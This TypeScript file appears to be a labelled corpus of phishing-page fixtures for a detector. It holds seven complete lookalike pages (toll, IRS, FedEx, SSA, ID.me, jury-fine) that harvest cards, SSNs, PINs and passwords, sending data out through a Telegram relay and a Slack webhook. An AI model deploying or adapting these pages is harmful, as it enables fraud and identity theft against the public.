import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, cardFields, cardFormatJs, codes, doc, formCss, hexLit, luhnJs, mark, seal, tgRelay, usBanner, usBannerCss } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-ezpass-ny-unpaid-toll-two-step',
  label: 'phishing',
  kind: 'toll-smishing-card',
  url: 'https://e-zpassny.com-tollbilling.top/us/',
  body: doc({
    title: 'E-ZPass New York - Toll Bill Payment',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f6f8;color:#222}header{background:#5b2c83;color:#fff;padding:14px 18px;display:flex;align-items:center;gap:10px}header b{font-size:20px}main{max-width:460px;margin:18px auto;background:#fff;border-radius:6px;box-shadow:0 1px 4px rgba(0,0,0,.15);padding:20px}h1{font-size:19px;margin:0 0 10px;color:#5b2c83}.amt{font-size:30px;font-weight:700;color:#c0392b}table{width:100%;font-size:14px;border-collapse:collapse;margin:12px 0}td{padding:6px 0;border-bottom:1px solid #eee}td:last-child{text-align:right}.btn{display:block;text-align:center;background:#f5a300;color:#000;font-weight:700;padding:13px;border-radius:4px;text-decoration:none;font-size:16px}.warn{background:#fff4e5;border-left:4px solid #f5a300;padding:10px;font-size:13px;margin:12px 0}small{color:#666}`,
    body: `<header>${mark('E-ZPass', '#5b2c83', 'E', '#f5a300')}<b>New York Customer Service Center</b></header>
<main>
  <h1>Outstanding Toll Notice</h1>
  <p>Our records show that your vehicle has an unpaid toll balance. To avoid a late fee of <b>$50.00</b> and possible suspension of your vehicle registration through the NYS DMV, please settle the balance below by <b>April 18, 2025</b>.</p>
  <table>
    <tr><td>Notice number</td><td>TB-7731-0492-18</td></tr>
    <tr><td>Facility</td><td>Gov. Mario M. Cuomo Bridge</td></tr>
    <tr><td>Transaction date</td><td>03/29/2025</td></tr>
    <tr><td>Toll amount</td><td>$6.99</td></tr>
    <tr><td>Administrative fee</td><td>$0.00</td></tr>
  </table>
  <p>Amount due: <span class="amt">$6.99</span></p>
  <div class="warn">Failure to pay may result in additional fees and referral to a collection agency per NY Vehicle &amp; Traffic Law §402.</div>
  <a class="btn" href="/us/pay?n=TB-7731-0492-18">Pay Now</a>
  <p><small>E-ZPass is a registered trademark of the Port Authority of New York and New Jersey. Tolls by Mail NY.</small></p>
</main>`,
  }),
  routes: {
    'e-zpassny.com-tollbilling.top/us/pay': htmlRoute(
      doc({
        title: 'Payment - E-ZPass NY',
        css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f6f8}header{background:#5b2c83;color:#fff;padding:14px 18px}main{max-width:460px;margin:18px auto;background:#fff;border-radius:6px;padding:20px}h1{font-size:18px;color:#5b2c83}button{width:100%;background:#f5a300;border:0;padding:13px;font-weight:700;font-size:16px;border-radius:4px}${formCss}`,
        body: `<header>${mark('E-ZPass', '#5b2c83', 'E', '#f5a300')}</header>
<main><h1>Secure payment &mdash; $6.99</h1>
<form id="payf" autocomplete="on">
<div class="fld"><label>Full name</label><input name="fullname" required></div>
<div class="fld"><label>Street address</label><input name="address" required></div>
<div class="row2"><div class="fld"><label>City</label><input name="city" required></div><div class="fld"><label>State</label><input name="state" maxlength="2" required></div></div>
<div class="fld"><label>Phone number</label><input name="phone" type="tel" required></div>
<div class="fld"><label>Email</label><input name="email" type="email"></div>
${cardFields({ name: false })}
<button type="submit">Submit Payment</button>
</form></main>
<script>${cardFormatJs}</script>
${tgRelay('payf', '7391055822:AAFq1x0mJfT9c2hLk4V7bQpRz-8sUwYeN3I', '-1002214467790', '/us/verify')}`,
      }),
    ),
    'e-zpassny.com-tollbilling.top/us/verify': htmlRoute(
      doc({
        title: 'Verification',
        body: `<div style="max-width:420px;margin:60px auto;font-family:Arial;text-align:center"><h2>Verify your payment</h2><p>A one-time passcode has been sent to the phone number on file with your card issuer.</p><form action="/us/verify.php" method="post"><input name="otp" maxlength="8" style="font-size:22px;text-align:center;width:200px"><br><br><button>Confirm</button></form></div>`,
      }),
    ),
  },
},

{
  id: 'ye-txtag-slider-gate-invoice',
  label: 'phishing',
  kind: 'toll-smishing-card',
  url: 'https://txtag-org.billpay-ustoll.com/',
  body: doc({
    title: 'Security check',
    css: `body{font-family:system-ui,Segoe UI,Arial;background:#fafafa;display:flex;align-items:center;justify-content:center;height:100vh;margin:0}.box{background:#fff;border:1px solid #ddd;border-radius:8px;padding:28px;width:320px;text-align:center}.track{position:relative;height:40px;background:#e9eef3;border-radius:20px;margin-top:18px;user-select:none}.knob{position:absolute;left:0;top:0;width:40px;height:40px;border-radius:20px;background:#1a73e8;color:#fff;line-height:40px;cursor:grab}.hint{position:absolute;width:100%;line-height:40px;color:#5f6368;font-size:13px}`,
    body: `<div class="box"><h3>Please confirm you are a person</h3><p style="font-size:13px;color:#555">Slide to continue to your toll account</p><div class="track" id="t"><span class="hint">Slide to verify &rarr;</span><div class="knob" id="k">&#10148;</div></div></div>
<script>
var k=document.getElementById('k'),t=document.getElementById('t'),d=false,sx=0;
k.addEventListener('pointerdown',function(e){d=true;sx=e.clientX;k.setPointerCapture(e.pointerId);});
k.addEventListener('pointermove',function(e){if(!d)return;var x=Math.max(0,Math.min(e.clientX-sx,t.clientWidth-40));k.style.left=x+'px';if(x>=t.clientWidth-42){d=false;location.href='/invoice/TX-39184?s='+Date.now().toString(36);}});
k.addEventListener('pointerup',function(){d=false;k.style.left='0px';});
</script>`,
  }),
  routes: {
    'txtag-org.billpay-ustoll.com/invoice/TX-39184': htmlRoute(
      doc({
        title: 'TxTag | Pay Toll Invoice',
        css: `body{margin:0;font-family:Arial;background:#fff}header{background:#002b5c;color:#fff;padding:12px 16px}main{max-width:480px;margin:auto;padding:16px}.n{background:#fdecea;color:#a50e0e;padding:10px;border-radius:4px}button{background:#e37222;color:#fff;border:0;padding:12px;width:100%;font-size:16px}${formCss}`,
        body: `<header>${mark('TxTag', '#e37222', 'T')}</header><main><p class="n">Unpaid toll: $3.85 &middot; Sam Houston Tollway &middot; Due immediately</p>
<form id="tx" method="post" action="/invoice/next.php">${cardFields()}<button>Pay invoice</button></form></main>
<script>${luhnJs}document.getElementById('tx').onsubmit=function(e){var c=this.cardnumber.value;if(!luhn(c)){e.preventDefault();alert('Please enter a valid card number.');}};</script>`,
      }),
    ),
  },
},

{
  id: 'ye-irs-2024-refund-claim-ssn',
  label: 'phishing',
  kind: 'irs-refund-kit',
  url: 'https://irs.gov-refundclaim.help/2024/claim.php',
  body: doc({
    title: 'IRS - Claim Your Tax Refund',
    favicon: '/favicon.ico',
    css: `${usBannerCss}body{margin:0;font-family:Source Sans Pro,Helvetica,Arial,sans-serif;background:#fff;color:#1b1b1b}.irs{background:#00599c;color:#fff;padding:14px 24px;font-size:28px;font-weight:700;letter-spacing:1px}.irs span{font-size:13px;font-weight:400;display:block;letter-spacing:0}.main{max-width:700px;margin:24px auto;padding:0 20px}.step{color:#00599c;font-weight:700}.box{background:#f1f1f1;padding:14px;border-left:6px solid #00599c;margin-bottom:18px}button{background:#00599c;color:#fff;border:0;padding:12px 30px;font-size:17px;border-radius:4px}${formCss}`,
    body: `${usBanner()}
<div class="irs">IRS<span>Internal Revenue Service</span></div>
<div class="main">
<div class="box">After the last annual calculations of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>$1,289.40</b>. Please submit the tax refund request and allow 3-5 business days to process it.</div>
<p class="step">Step 1 of 2 &mdash; Taxpayer information</p>
<form method="post" action="next.php" id="rf">
<div class="fld"><label>First and last name</label><input name="fullname" required></div>
<div class="fld"><label>Social Security Number (SSN)</label><input name="ssn" placeholder="XXX-XX-XXXX" maxlength="11" required></div>
<div class="fld"><label>Date of birth</label><input name="dob" type="date" required></div>
<div class="fld"><label>Mother's maiden name</label><input name="mmn"></div>
<div class="fld"><label>Street address</label><input name="addr" required></div>
<div class="row2"><div class="fld"><label>City</label><input name="city"></div><div class="fld"><label>ZIP</label><input name="zip"></div></div>
<div class="fld"><label>Driver's license / State ID #</label><input name="dlnum"></div>
<p class="step">Refund deposit &mdash; debit card on which the refund will be credited</p>
${cardFields({ zip: false })}
<div class="fld"><label>ATM PIN</label><input name="pin" type="password" maxlength="6"></div>
<button type="submit">Submit refund request</button>
</form>
<p style="font-size:12px;color:#666;margin-top:30px">&copy; 2025 Internal Revenue Service. IRS.gov</p>
</div>
<script>document.querySelector('[name=ssn]').addEventListener('input',function(){var v=this.value.replace(/\\D/g,'').slice(0,9);this.value=v.length>5?v.slice(0,3)+'-'+v.slice(3,5)+'-'+v.slice(5):v.length>3?v.slice(0,3)+'-'+v.slice(3):v;});${cardFormatJs}</script>`,
  }),
  routes: {
    'irs.gov-refundclaim.help/2024/next.php': redirectRoute(302, 'https://irs.gov-refundclaim.help/2024/complete.html'),
    'irs.gov-refundclaim.help/2024/complete.html': htmlRoute(doc({ title: 'IRS - Request received', body: '<h2 style="font-family:Arial">Thank you. Your refund request is being processed.</h2><script>setTimeout(function(){location.href="https://www.irs.gov/refunds"},4000)</script>' })),
  },
},

{
  id: 'ye-fedex-aduana-retenido-es',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://fedex-aduana-pago.top/rastreo/',
  body: doc({
    lang: 'es',
    title: 'FedEx | Envío retenido en aduana',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f2f2f2}.h{background:#4d148c;padding:14px 20px}.h span{color:#fff;font-size:26px;font-weight:700}.h span i{color:#ff6200;font-style:normal}.c{max-width:500px;margin:18px auto;background:#fff;padding:20px}.st{background:#fff8e1;padding:10px;border-radius:3px}button{background:#ff6200;color:#fff;width:100%;padding:12px;border:0;font-size:16px;font-weight:700}${formCss}`,
    body: `<div class="h"><span>Fed<i>Ex</i></span></div>
<div class="c"><h2>Su envío está retenido</h2><p class="st">Número de rastreo <b>7789 4410 2231</b> &mdash; Retenido en aduana (Miami, FL). Se requiere el pago de impuestos de importación de <b>$2.99 USD</b> para liberar el paquete.</p>
<form id="fx">
<div class="fld"><label>Nombre y apellido</label><input name="nombre" required></div>
<div class="fld"><label>Dirección de entrega</label><input name="direccion" required></div>
<div class="fld"><label>Correo electrónico</label><input name="correo" type="email"></div>
${cardFields({ labels: { name: 'Titular de la tarjeta', number: 'Número de tarjeta', exp: 'Fecha de vencimiento', cvv: 'Código de seguridad', zip: 'Código postal' } })}
<button>Pagar $2.99</button></form></div>
<script>
document.getElementById('fx').addEventListener('submit',function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});
fetch('https://hooks.slack.com/services/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',{method:'POST',mode:'no-cors',body:JSON.stringify({text:JSON.stringify(o)})}).then(function(){location.href='https://www.fedex.com/es-us/home.html'});});
</script>`,
  }),
},

{
  id: 'ye-mysocialsecurity-signin-clone',
  label: 'phishing',
  kind: 'ssa-login-kit',
  url: 'https://secure-ssa.gov-mysocialsecurity.com/RIL/SiView.action',
  body: doc({
    title: 'my Social Security | SSA',
    css: `${usBannerCss}body{margin:0;font-family:Source Sans Pro,Arial,sans-serif;background:#fff;color:#1b1b1b}.top{background:#112e51;color:#fff;padding:14px 24px;display:flex;gap:12px;align-items:center}.top b{font-size:22px}.c{max-width:460px;margin:30px auto;border:1px solid #dfe1e2;padding:26px;border-radius:4px}h1{font-size:26px;margin-top:0}button{width:100%;background:#005ea2;color:#fff;border:0;padding:12px;font-size:17px;border-radius:4px;margin-top:8px}a{color:#005ea2}.or{text-align:center;color:#71767a;margin:14px 0}.alt{display:block;border:1px solid #005ea2;text-align:center;padding:10px;border-radius:4px;margin:6px 0;text-decoration:none}${formCss}`,
    body: `${usBanner()}
<div class="top">${seal('SSA', '#112e51', 40)}<b>my Social Security</b></div>
<div class="c"><h1>Sign In</h1>
<form id="ssa" method="post" action="/RIL/Login.action">
<div class="fld"><label>Username</label><input name="username" autocomplete="username" required></div>
<div class="fld"><label>Password</label><input name="password" type="password" autocomplete="current-password" required></div>
<button type="submit">Sign In</button></form>
<p><a href="#">Forgot username?</a> &nbsp; <a href="#">Forgot password?</a></p>
<div class="or">OR</div>
<a class="alt" href="#" onclick="document.getElementById('ssa').scrollIntoView();return false">Sign in with Login.gov</a>
<a class="alt" href="#" onclick="document.getElementById('ssa').scrollIntoView();return false">Sign in with ID.me</a></div>
<script>
document.getElementById('ssa').addEventListener('submit',function(e){e.preventDefault();
var x=new XMLHttpRequest();x.open('POST','/RIL/'+atob('${b64('gate.php')}'));x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.onload=function(){location.href='/RIL/Verify.action?step=ssn';};x.send(new URLSearchParams(new FormData(this)).toString());});
</script>`,
  }),
  routes: {
    'secure-ssa.gov-mysocialsecurity.com/RIL/Verify.action': htmlRoute(
      doc({
        title: 'my Social Security | Verify',
        body: `<div style="max-width:460px;margin:40px auto;font-family:Arial"><h2>Confirm your identity</h2><form method="post" action="/RIL/gate.php"><p>Social Security Number<br><input name="ssn"></p><p>Date of birth<br><input name="dob"></p><p>Bank routing number (for direct deposit on file)<br><input name="routing"></p><p>Account number<br><input name="acct"></p><button>Continue</button></form></div>`,
      }),
    ),
  },
},

{
  id: 'ye-idme-unemployment-verify-kit',
  label: 'phishing',
  kind: 'gov-identity-kit',
  url: 'https://idme-verify.workforce-claims.us/signin/individual',
  body: doc({
    title: 'ID.me - Sign In',
    css: `body{margin:0;background:#f4f6f9;font-family:Helvetica Neue,Arial,sans-serif}.card{max-width:420px;margin:48px auto;background:#fff;border-radius:6px;padding:30px;box-shadow:0 2px 10px rgba(0,0,0,.08)}.logo{font-size:30px;font-weight:800;color:#2e3f51}.logo span{color:#08833d}.ctx{background:#eef7f1;padding:10px;font-size:13px;border-radius:4px;margin:14px 0}button{width:100%;background:#08833d;color:#fff;border:0;border-radius:4px;padding:12px;font-size:16px}${formCss}`,
    body: `<div class="card"><div class="logo">ID<span>.</span>me</div>
<div class="ctx">Texas Workforce Commission is requesting that you verify your identity to release your pending unemployment benefit payment of $2,140.00.</div>
<form id="idf" method="post" action="https://idme-verify.workforce-claims.us/signin/next.php">
<div class="fld"><label>Email</label><input type="email" name="user[email]" required></div>
<div class="fld"><label>Password</label><input type="password" name="user[password]" required></div>
<button>Sign in</button></form>
<p style="font-size:13px;text-align:center">New to ID.me? <a href="#">Create an ID.me account</a></p></div>`,
  }),
},

{
  id: 'ye-harris-county-jury-fta-card',
  label: 'phishing',
  kind: 'jury-duty-fine-kit',
  url: 'https://harriscounty-courts.jurypay.net/fta/notice',
  body: doc({
    title: 'Harris County District Clerk - Failure to Appear (Jury Service)',
    css: `body{margin:0;font-family:Georgia,serif;background:#ece9e2;color:#222}.h{background:#3b2314;color:#fff;padding:14px 24px;display:flex;align-items:center;gap:14px}.c{max-width:680px;margin:24px auto;background:#fff;padding:26px;border:1px solid #ccc}.stamp{color:#a00;border:3px solid #a00;display:inline-block;padding:4px 10px;transform:rotate(-4deg);font-weight:700;font-family:Arial}button{background:#3b2314;color:#fff;border:0;padding:12px 24px;font-size:16px}.fld label{font-family:Arial}${formCss}`,
    body: `<div class="h">${seal('HC', '#3b2314', 46)}<div><b>Harris County District Clerk</b><br><small>Jury Services Division</small></div></div>
<div class="c"><span class="stamp">WARRANT PENDING</span>
<h2>Notice of Failure to Appear for Jury Service</h2>
<p>Records show you were summoned for jury service on <b>March 24, 2025</b> (Juror ID 2025-118733) and did not report. Under Texas Government Code §62.0141, failure to appear may result in a fine of up to $1,000 and a bench warrant.</p>
<p>You may resolve this matter without appearing before the judge by paying the reduced civil penalty of <b>$498.00</b> today. Once paid, the pending warrant will be recalled within 24 hours.</p>
<form id="jf" method="post" action="/fta/pay.php">
<div class="fld"><label>Juror ID</label><input name="juror" value="2025-118733"></div>
<div class="fld"><label>Full name</label><input name="name" required></div>
<div class="fld"><label>Date of birth</label><input name="dob" required></div>
<div class="fld"><label>Last 4 of SSN</label><input name="ssn4" maxlength="4" required></div>
${cardFields()}
<button>Pay civil penalty</button></form>
<p style="font-size:13px">Deputy Clerk on duty: (713) 555-0187</p></div>
<script>${cardFormatJs}</script>`,
  }),
},
];
